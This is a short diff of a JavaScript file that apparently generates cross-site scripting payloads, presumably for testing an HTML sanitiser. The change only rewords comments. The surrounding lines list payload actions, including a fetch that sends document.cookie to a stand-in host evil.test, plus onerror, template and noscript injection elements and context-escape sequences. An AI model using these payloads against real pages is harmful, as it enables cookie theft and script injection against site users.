@@ -1,4 +1,4 @@
-/** What each of them would do: leave a mark, ask something, or fetch from a place that is not ours. */
+/** The effect of each payload: leave a mark, ask something, or fetch from a foreign address. */
 const deeds = ["window.ran=1", "alert(1)", "fetch('//evil.test/'+document.cookie)"];
 
 /** Elements that run something by themselves, in text that is taken for markup. */
@@ -38,7 +38,7 @@ const elements = [
   "<template><script>DEED</script></template>",
   "<noscript><p title='</noscript><img src=x onerror=DEED>'></noscript>",
 ];
-/** What closes the place it stands in before it begins. */
+/** Sequences that close the surrounding context before the payload. */
 const escapes = ['">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "`>"];
 /** Text that is dangerous where it is evaluated, linked, formatted or laid out. */
 const others = [
